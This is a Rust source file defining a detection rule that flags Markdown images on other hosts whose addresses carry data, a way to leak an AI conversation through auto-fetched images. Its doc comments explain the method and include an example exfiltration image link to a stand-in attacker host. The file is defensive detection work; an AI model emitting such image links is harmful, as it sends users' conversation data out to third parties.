//! # What it finds
//! A Markdown image on another host whose address carries data: a long or random parameter or path part.
//!
//! # Why it matters
//! Clients fetch images by themselves. One picture is enough to carry a conversation out.
//!
//! # Example
//! `![ ](https://evil.example/p.png?d=U2VjcmV0...)`
//!
//! # Limits and sources
//! Plain image addresses are clean, as are signed download links. Which hosts are allowed at all is the policy's
//! list.

use super::carry;
use crate::rule::{Anchor, Candidate, Exact, Family, Hit, Matcher, Rule};

/// See the [module](self).
pub const RULE: Rule = Rule {
    id: "EX001",
    name: "image-data",
    family: Family::Link,
    category: "link.image",
    tags: &["owasp:LLM02", "owasp:LLM05", "owasp-agentic:ASI02", "atlas:AML.T0077"],
    matcher: Matcher::Exact(Exact {
        pattern: r"(?i)!\[[^\]\n]{0,256}\]\( ?<?(?:https?:)?//[^ )\n]{1,2048}",
        anchor: Anchor::Literals(&["!["]),
        longest: 2340,
        verify,
    }),
};

fn verify(candidate: &Candidate<'_>) -> Option<Hit> {
    carry::payload(carry::address_in(candidate.matched()))
}
